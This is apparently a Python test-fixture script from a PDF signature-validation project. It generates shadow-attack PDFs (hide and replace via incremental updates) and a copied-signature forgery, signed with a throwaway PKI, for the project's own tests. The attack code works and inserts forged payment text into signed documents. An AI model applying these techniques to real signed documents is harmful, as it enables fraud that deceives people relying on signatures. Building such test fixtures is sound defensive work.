"""Re-create the shadow-style and copied-signature attacks in tests/data/shadow/.

Run from the project root:  .venv/bin/python tests/data/make_shadow_attacks.py

Shadow attacks (Mainka, Mladenov, Rohlmann, Schwenk, 2021) prepare a document so that what
the signer sees is not all it holds, then change what shows in an incremental update that
touches nothing the signature covers:

- *hide*: a white cover is drawn over forged text already in the signed page; the update
  drops the cover from the page's content array, and the forged text appears;
- *replace*: the page draws a form XObject with harmless text; the update redefines that
  object (same number, new generation of the xref) with forged text.

The copied signature is another document's signature value pasted into this one's
/Contents (both signed with the same key and reservation), so it no longer matches.

It makes its own throwaway PKI, long-lived like make_signed_attacks.py's (its root is
committed as shadow/root.pem; no private key is kept).
"""

from __future__ import annotations

import datetime as dt
import importlib.util
import io
import re
import tempfile
from pathlib import Path

from cryptography.hazmat.primitives.serialization import Encoding
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

from docsvc.demo.sample_pdfs import demo_documents
from signing.pades import Level, SignatureRequest, sign_file, unlock_pkcs12

HERE = Path(__file__).parent
OUT = HERE / "shadow"
SOURCE = HERE / "signed" / "unsigned_resolution.pdf"
FORGED = b"BT /F1 20 Tf 72 120 Td (PAGUESE USD 999.999 A LA CUENTA 0042) Tj ET"
COVER = b"1 1 1 rg 60 100 480 50 re f"  # exactly over the forged line
HARMLESS = b"BT /F1 12 Tf 0 10 Td (Sin observaciones.) Tj ET"


def _base() -> object:
    spec = importlib.util.spec_from_file_location(
        "make_signed_attacks", HERE / "make_signed_attacks.py"
    )
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def _writer(data: bytes) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(io.BytesIO(data), strict=False)


def _finish(writer: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _page(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    page = writer.root["/Pages"].raw_get("/Kids")[0].get_object()
    assert isinstance(page, generic.DictionaryObject)
    return page


def _contents(page: generic.DictionaryObject) -> list[generic.IndirectObject]:
    raw = page.raw_get("/Contents")
    return list(raw.get_object()) if isinstance(raw.get_object(), generic.ArrayObject) else [raw]


def prepared_for_hide(unsigned: bytes) -> bytes:
    """Before signing: forged text, then a white cover over it, after the page's content."""
    writer = _writer(unsigned)
    page = _page(writer)
    forged = writer.add_object(generic.StreamObject(stream_data=FORGED))
    cover = writer.add_object(generic.StreamObject(stream_data=COVER))
    page["/Contents"] = generic.ArrayObject([*_contents(page), forged, cover])
    writer.update_container(page)
    return _finish(writer)


def hide(signed: bytes) -> bytes:
    """After signing: the cover leaves the content array; the forged text shows."""
    writer = _writer(signed)
    page = _page(writer)
    page["/Contents"] = generic.ArrayObject(_contents(page)[:-1])
    writer.update_container(page)
    return _finish(writer)


def prepared_for_replace(unsigned: bytes) -> bytes:
    """Before signing: the page draws a form XObject holding harmless text."""
    writer = _writer(unsigned)
    page = _page(writer)
    form = writer.add_object(
        generic.StreamObject(
            {
                generic.NameObject("/Type"): generic.NameObject("/XObject"),
                generic.NameObject("/Subtype"): generic.NameObject("/Form"),
                generic.NameObject("/BBox"): generic.ArrayObject(
                    [generic.NumberObject(n) for n in (0, 0, 480, 40)]
                ),
                generic.NameObject("/Resources"): page["/Resources"],
            },
            stream_data=HARMLESS,
        )
    )
    # A new, direct resource dictionary on the page: the original may be shared.
    resources = generic.DictionaryObject(dict(page["/Resources"].items()))
    xobjects = generic.DictionaryObject(dict(resources.get("/XObject", {}).items()))
    xobjects[generic.NameObject("/Shadow")] = form
    resources[generic.NameObject("/XObject")] = xobjects
    page[generic.NameObject("/Resources")] = resources
    draw = writer.add_object(generic.StreamObject(stream_data=b"q 1 0 0 1 72 110 cm /Shadow Do Q"))
    page["/Contents"] = generic.ArrayObject([*_contents(page), draw])
    writer.update_container(page)
    return _finish(writer)


def replace(signed: bytes) -> bytes:
    """After signing: the form XObject, same object number, now holds forged text."""
    writer = _writer(signed)
    page = _page(writer)
    reference = page["/Resources"]["/XObject"].raw_get("/Shadow")
    form = reference.get_object()
    # The attack rewrites the signed stream object in place.
    form._data = FORGED.replace(b"72 120", b"0 10")
    form._encoded_data = None
    writer.mark_update(reference)
    return _finish(writer)


def copied_signature(target: bytes, donor: bytes) -> bytes:
    """The donor's signature value pasted into the target's /Contents, lengths equal."""
    pattern = re.compile(rb"/Contents\s*<([0-9A-Fa-f]+)>")
    wanted = pattern.search(target)
    given = pattern.search(donor)
    assert wanted is not None and given is not None
    assert len(wanted.group(1)) == len(given.group(1)), "the reservations differ"
    return target[: wanted.start(1)] + given.group(1) + target[wanted.end(1) :]


def main() -> None:
    base = _base()
    OUT.mkdir(exist_ok=True)
    now = dt.datetime.now(dt.UTC)
    pki = base.long_lived_pki(now)  # type: ignore[attr-defined]
    signer = base.official(pki, "Ana María Rojas", "ministra", now - base.BACKDATED)  # type: ignore[attr-defined]
    key = unlock_pkcs12(signer.pkcs12, base.PIN)  # type: ignore[attr-defined]
    (OUT / "root.pem").write_bytes(pki.root.certificate.public_bytes(Encoding.PEM))
    unsigned = SOURCE.read_bytes()
    with tempfile.TemporaryDirectory() as tmp:
        work = Path(tmp)

        def signed(data: bytes, name: str) -> bytes:
            source, target = work / f"{name}.in.pdf", work / f"{name}.pdf"
            source.write_bytes(data)
            sign_file(source, target, key, SignatureRequest(Level.B_B))
            return target.read_bytes()

        hide_signed = signed(prepared_for_hide(unsigned), "hide")
        replace_signed = signed(prepared_for_replace(unsigned), "replace")
        (OUT / "shadow_hide_signed.pdf").write_bytes(hide_signed)
        (OUT / "attack_shadow_hide.pdf").write_bytes(hide(hide_signed))
        (OUT / "shadow_replace_signed.pdf").write_bytes(replace_signed)
        (OUT / "attack_shadow_replace.pdf").write_bytes(replace(replace_signed))
        other = signed(demo_documents()[0].pdf, "donor")  # another document, same signer
        plain = signed(unsigned, "plain")
        (OUT / "attack_copied_signature.pdf").write_bytes(copied_signature(plain, other))
    print(f"wrote {sorted(p.name for p in OUT.iterdir())}")


if __name__ == "__main__":
    main()
